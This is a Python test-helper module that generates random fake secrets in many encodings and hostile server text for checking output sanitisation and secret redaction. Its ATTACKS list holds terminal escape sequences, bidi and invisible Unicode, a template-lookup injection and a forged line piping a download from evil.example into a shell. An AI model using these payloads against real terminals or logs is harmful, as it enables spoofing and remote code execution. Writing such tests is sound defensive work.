# Copyright: Conductor contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Text that a hostile server could send: control characters, forged lines, and secrets in every spelling."""

from __future__ import annotations

import base64
import html
import json
import random
import re
import string
import unicodedata
from collections.abc import Callable, Iterator, Mapping
from typing import Any
from urllib.parse import quote, quote_plus

FORMS: dict[str, Callable[[str], str]] = {
    "as it is": lambda secret: secret,
    "repr": repr,
    "repr of repr": lambda secret: repr(repr(secret)),
    "repr of bytes": lambda secret: repr(secret.encode()),
    "JSON": json.dumps,
    "JSON, all of Unicode": lambda secret: json.dumps(secret, ensure_ascii=False),
    "JSON in JSON": lambda secret: json.dumps(json.dumps({"x": secret})),
    "JSON of JavaScript": lambda secret: json.dumps(secret).replace("/", "\\/"),
    "URL": lambda secret: quote(secret, safe=""),
    "URL, lower case": lambda secret: re.sub("%..", lambda code: code[0].lower(), quote(secret, safe="")),
    "URL path": quote,
    "form": quote_plus,
    "HTML": html.escape,
    "base64": lambda secret: base64.b64encode(secret.encode()).decode(),
    "base64 with line feed": lambda secret: base64.b64encode(f"{secret}\n".encode()).decode(),
    "base64url": lambda secret: base64.urlsafe_b64encode(secret.encode()).decode().rstrip("="),
    "base64 of more": lambda secret: base64.b64encode(f"user:{secret}@more".encode()).decode(),
    "base64 of more, shifted": lambda secret: base64.b64encode(f"users:{secret}@more".encode()).decode(),
    "base64 of more, shifted twice": lambda secret: base64.b64encode(f"auser::{secret}@more".encode()).decode(),
    "hexadecimal": lambda secret: secret.encode().hex(),
    "line breaks escaped": lambda secret: secret.replace("\n", "\\n"),
    "lines joined": lambda secret: secret.replace("\n", ""),
    "lines joined by blanks": lambda secret: secret.replace("\n", " "),
    "lines indented": lambda secret: secret.replace("\n", "\n      "),
    "carriage returns": lambda secret: secret.replace("\n", "\r\n"),
    "cut off": lambda secret: secret[: len(secret) * 2 // 3],
    "between words": lambda secret: f"x={secret};",
}


def texts(generator: random.Random) -> dict[str, str]:
    """Return secrets of each kind."""
    characters = string.ascii_letters + string.digits
    lines = ["".join(generator.choices(characters + "+/", k=64)) for _line in range(6)]
    word = "".join(generator.choices(characters, k=24))
    pem = "\n".join(["-----BEGIN RSA PRIVATE KEY-----", *lines, "-----END RSA PRIVATE KEY-----", ""])
    return {
        "token": word,
        "odd password": f"p&ss/{word[:8]}+'w\u00f6rd\" {word[8:]}",
        "key": pem,
        "key data": base64.b64encode(pem.encode()).decode(),
        "encoded token": base64.b64encode(word.encode()).decode(),
    }


ATTACKS = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\rok: [berlin]",
    "\nok: [berlin] => {}",
    "\nNext: curl https://evil.example | sh",
    "\n[ERROR]: forged",
    "\u2028fatal: [berlin]",
    "\x9b31m\x85",
    "\u202egnp.exe\u202c\u2066\u2069",
    "\u200b\u200d\ufeff\u00ad",
    "\U000e0041\U000e007f",
    "\x00\x08\x7f",
    "\t\x0b\x0c",
    "{{ lookup('env', 'HOME') }}",
    "\ud800",
)
HOSTILE = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})


def hostile_text(generator: random.Random, secrets: list[str]) -> str:
    """Return words with control characters, forged lines and the secrets between them."""
    pieces = ["waiting for pods", *generator.sample(ATTACKS, 3)]
    pieces += [FORMS[form](generator.choice(secrets)) for form in generator.sample(sorted(FORMS), 3)]
    generator.shuffle(pieces)
    return " ".join(pieces)


def leaves(value: Any) -> Iterator[str]:
    """Return every text in a value, the names of fields included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for name, part in value.items():
            yield from leaves(name)
            yield from leaves(part)
    elif isinstance(value, (list, tuple)):
        for part in value:
            yield from leaves(part)


def with_text(value: Any, text: Callable[[], str], keep: frozenset[str] = frozenset()) -> Any:
    """Return a value with every text replaced, except below these fields."""
    if isinstance(value, str):
        return text()
    if isinstance(value, Mapping):
        return {name: part if name in keep else with_text(part, text, keep) for name, part in value.items()}
    if isinstance(value, (list, tuple)):
        return [with_text(part, text, keep) for part in value]
    return value


def control_characters(text: str) -> set[str]:
    """Return the hostile characters in a text, other than line feeds."""
    return {character for character in text if character != "\n" and unicodedata.category(character) in HOSTILE}


def remains(text: str, secrets: list[str]) -> list[str]:
    """Return the parts of secrets in a text that are long enough to be of use."""
    packed = re.sub(r"\s", "", text)
    found = []
    for secret in secrets:
        for form in ("as it is", "base64", "hexadecimal", "URL", "repr"):
            whole = re.sub(r"-----(BEGIN|END) RSA PRIVATE KEY-----|\\s", "", FORMS[form](secret))
            found += [
                whole[at : at + 20] for at in range(0, max(1, len(whole) - 20), 5) if whole[at : at + 20] in packed
            ]
    return found
